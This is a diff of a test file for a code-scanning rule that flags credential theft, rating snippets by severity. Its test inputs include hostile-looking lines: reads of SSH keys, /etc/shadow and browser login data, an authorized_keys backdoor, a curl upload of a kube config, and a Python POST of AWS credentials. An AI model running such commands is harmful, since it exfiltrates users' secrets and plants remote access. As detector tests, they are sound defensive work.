@@ -8,20 +8,37 @@ const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text }
 test("bad: what it looks for", () => {
   for (const code of [
     "fs.readFileSync(home + \"/.ssh/id_rsa\")",
-    "const path = require(\"path\"); read(path.join(home, \".aws\", \"credentials\"))",
-    "read(`${home}/.config/gcloud/application_default_credentials.json`)",
     "read(atob(\"L2V0Yy9zaGFkb3c=\"))",
     "read(\"C:\\\\Users\\\\x\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data\")",
-    "read([home, \".npmrc\"].join(\"/\"))",
+    "fs.appendFileSync(home + \"/.ssh/authorized_keys\", key)",
+    "exec(\"curl -F f=@$HOME/.kube/config https://example.org\")",
   ]) assert.equal(worst(code), 'high', code);
+});
+
+const TRADE = [
+  "const path = require(\"path\"); read(path.join(home, \".aws\", \"credentials\"))",
+  "read(`${home}/.config/gcloud/application_default_credentials.json`)",
+  "read(home + \"/.npmrc\")",
+  "read(process.env.HOME + \"/.pgpass\")",
+];
+
+test("the file of a trade is a hint, and bad where the script sends something", () => {
+  for (const code of TRADE) {
+    assert.equal(worst(code), 'medium', code);
+    assert.equal(worst(`${code}; fetch(u, { method: "POST", body: x })`), 'high', code);
+    assert.equal(worst(`${code}; require("https").request(options)`), 'high', code);
+    assert.equal(worst(`${code}; fetch(u); /* ${'x'.repeat(50_000)} */`), 'medium', 'in a bundle, everything is together');
+  }
+  assert.equal(worst("const IGNORED = [\".git\", \".npmrc\"]; log(u)"), 'low', 'a file of a project');
+  assert.equal(worst("read([home, \".npmrc\"].join(\"/\")); fetch(u, { body: x })"), 'medium', 'or one that is looked for somewhere');
 });
 
 test("bad: the same in Python", () => {
   for (const code of [
     "import os\nopen(os.path.join(home, \".ssh\", \"id_ed25519\"))",
-    "from pathlib import Path\nPath.home() / \".aws\" / \"credentials\"",
-    "open(f\"{home}/.netrc\")",
+    "import requests\nfrom pathlib import Path\nrequests.post(u, data=(Path.home() / \".aws\" / \"credentials\").read_text())",
   ]) assert.equal(worst(code, 'a.py'), 'high', code);
+  assert.equal(worst("open(f\"{home}/.netrc\")", 'a.py'), 'medium');
 });
 
 test("good: what only looks like it", () => {
@@ -39,4 +56,8 @@ test("good: the same in Python", () => {
     "open(\"credentials.json\")",
     "# ~/.ssh/id_rsa\n\"\"\"reads .ssh\"\"\"",
   ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
+});
+
+test('a value that is made of itself twice is read once', () => {
+  assert.equal(worst('import os\npath = os.path.join(path, path, "x")\nopen(path)', 'a.py'), 'nothing');
 });
